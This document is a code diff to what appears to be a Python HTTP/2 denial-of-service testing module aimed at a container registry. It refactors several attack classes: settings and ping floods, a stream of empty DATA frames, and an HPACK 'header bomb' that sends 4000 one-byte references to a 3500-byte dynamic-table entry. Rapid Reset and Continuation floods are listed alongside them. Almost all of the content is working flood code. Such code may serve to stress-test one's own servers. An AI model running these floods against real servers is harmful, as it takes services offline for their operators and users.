@@ -1,9 +1,7 @@
 """Floods of HTTP/2 frames that cost the sender little."""
 
-import struct
-
 from attack import LOGIN, Attack
-from http2 import CONTINUATION, END_HEADERS, END_STREAM, HEADERS, PING, Http2, block, frame, reset, settings
+from http2 import CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, Http2, block, frame, reset, settings, text
 from wire import address
 
 # What is sent at once.
@@ -31,6 +29,12 @@ class Flood(Attack):
 
     def reads(self, connection: Http2) -> bool:
         return connection.read(0.002)
+
+    def pauses(self, connection: Http2) -> bool:
+        """Reads nothing. Some 100,000 frames a second are a flood; more of them measure how fast a frame is read."""
+        connection.socket.settimeout(1)
+        self.rest(0.001)
+        return True
 
     def batch(self, connection: Http2) -> list[bytes]:
         raise NotImplementedError
@@ -85,8 +89,7 @@ class SettingsFlood(Flood):
         return [settings({4: 65_535, 3: 100}) * BATCH]
 
     def reads(self, connection):
-        connection.socket.settimeout(1)
-        return True
+        return self.pauses(connection)
 
 
 class PingFlood(Flood):
@@ -98,7 +101,7 @@ class PingFlood(Flood):
         return [frame(PING, 0, 0, b"12345678") * BATCH]
 
     def reads(self, connection):
-        return True
+        return self.pauses(connection)
 
 
 class EmptyFrames(Flood):
@@ -111,7 +114,7 @@ class EmptyFrames(Flood):
         if connection.next == 1:
             fields = {**LOGIN, "Content-Type": "application/vnd.oci.image.manifest.v1+json"}
             connection.open("PUT", "/v2/direct/app/empty/manifests/1", fields, ends=False)
-        return [frame(0, 0, 1) * BATCH, frame(HEADERS, END_HEADERS, 1)[:0]]
+        return [frame(DATA, 0, 1) * BATCH]
 
 
 class HeaderBomb(Flood):
@@ -122,15 +125,10 @@ class HeaderBomb(Flood):
 
     def batch(self, connection):
         # A literal that enters the dynamic table, and 4000 references to it of a byte each (RFC 7541, 6.1 and 6.2.1).
-        entry = b"\x40" + b"\x01x" + b"\x7f" + bytes([(3500 - 127) % 128 + 128, (3500 - 127) // 128]) + b"a" * 3500
-        stream, self_ = connection.next, block([(":method", "GET"), (":scheme", "https"), (":path", "/v2/")])
+        content = block([(":method", "GET"), (":scheme", "https"), (":path", "/v2/")])
+        content += b"\x40" + text("x") + text("a" * 3500) + b"\xbe" * 4000
         connection.next += 2
-        content = self_ + entry + b"\xbe" * 4000
-        return [frame(HEADERS, END_HEADERS | END_STREAM, stream, content)]
-
-
-def increments(stream: int, more: int) -> bytes:
-    return frame(8, 0, stream, struct.pack(">I", more))
+        return [frame(HEADERS, END_HEADERS | END_STREAM, connection.next - 2, content)]
 
 
 ALL = [RapidReset, ContinuationFlood, SettingsFlood, PingFlood, EmptyFrames, HeaderBomb]
